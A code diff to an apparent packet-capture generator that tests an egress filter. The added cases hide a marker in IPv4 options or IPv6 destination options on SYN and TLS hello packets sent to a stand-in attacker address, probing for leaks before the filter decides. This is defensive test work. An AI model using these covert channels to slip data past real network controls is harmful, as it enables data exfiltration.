@@ -12,12 +12,12 @@ server (the next router drops it), so it is dropped unjudged: a decoy with such 
 be judged in place of the request that follows it.
 """
 
-from scapy.layers.inet import ICMP, IP, TCP
-from scapy.layers.inet6 import ICMPv6MLDMultAddrRec, ICMPv6MLReport2, ICMPv6ND_NS, ICMPv6NDOptSrcLLAddr, IPv6, \
-    IPv6ExtHdrHopByHop, RouterAlert
+from scapy.layers.inet import ICMP, IP, TCP, IPOption
+from scapy.layers.inet6 import HBHOptUnknown, ICMPv6MLDMultAddrRec, ICMPv6MLReport2, ICMPv6ND_NS, \
+    ICMPv6NDOptSrcLLAddr, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrHopByHop, RouterAlert
 
 from pcapgen import frames
-from pcapgen.attacks import (ATTACKER, CLIENT, CLIENT_V6, HTTP_SERVER, LINK_LOCAL, MLDV2_ROUTERS, RESOLVER,
+from pcapgen.attacks import (ATTACKER, ATTACKER_V6, CLIENT, CLIENT_V6, HTTP_SERVER, LINK_LOCAL, MLDV2_ROUTERS, RESOLVER,
                              RESOLVER_V6, ROUTER_LINK_LOCAL, SOLICITED_NODE, TLS_SERVER, V6_MAC, Attack, Control,
                              _ether, _tcp_decoy, marker)
 from pcapgen.tls import client_hello
@@ -93,6 +93,40 @@ def attacks():
         flow.syn(), flow.ack(), flow.data(frames.http_get("pypi.org")),
         _bad_ip_checksum(flow.data(frames.http_get("pypi.org", "/" + m.decode())))],
         "ipv4_header_checksum_bad", m, "a later request no router would carry: dropped on an allowed flow too"))
+    cases += _ip_option_cases()
+    return cases
+
+
+def _with_ipv4_option(pkt, m):
+    """`pkt` (a finished IPv4 frame) with an unknown, copied IPv4 option holding `m`."""
+    pkt = pkt.copy()
+    pkt[IP].options = [IPOption(bytes([0x9e, 2 + len(m)]) + m)]
+    del pkt[IP].ihl, pkt[IP].len, pkt[IP].chksum
+    return frames.finish(pkt)
+
+
+def _ip_option_cases():
+    """A SYN to any address on a TLS port passes before its verdict (the name is read after it):
+    IPv4 options or IPv6 extension headers on it would carry bytes to the attacker's server."""
+    cases = []
+    m = marker("ipv4_options_on_syn")
+    flow = frames.TcpFlow(CLIENT, 45050, ATTACKER, 443)
+    cases.append(Attack("ipv4_options_on_syn", [_with_ipv4_option(flow.syn(), m)], "ip_options_before_verdict", m,
+                        "the marker in an IPv4 option of a SYN to the attacker's address"))
+    m = marker("ipv6_destination_options_on_syn")
+    syn = frames.TcpFlow(CLIENT_V6, 45051, ATTACKER_V6, 443).syn()
+    tcp = syn[TCP].copy()
+    del tcp.chksum
+    packet = (_ether(syn.src, syn.dst) / IPv6(src=CLIENT_V6, dst=ATTACKER_V6, hlim=64)
+              / IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x1e, optdata=m)]) / tcp)
+    cases.append(Attack("ipv6_destination_options_on_syn", [frames.finish(packet)], "ip_options_before_verdict", m,
+                        "the marker in a destination option of a SYN to the attacker's IPv6 address"))
+    m = marker("ipv4_options_on_hello")
+    flow = frames.TcpFlow(CLIENT, 45052, ATTACKER, 443)
+    cases.append(Attack("ipv4_options_on_hello", [
+        flow.syn(), flow.ack(), _with_ipv4_option(flow.data(client_hello("pypi.org") + m), m)],
+        "ip_options_before_verdict", m,
+        "an allowed name's hello to the attacker's address, an IPv4 option carrying the marker"))
     return cases
 
 
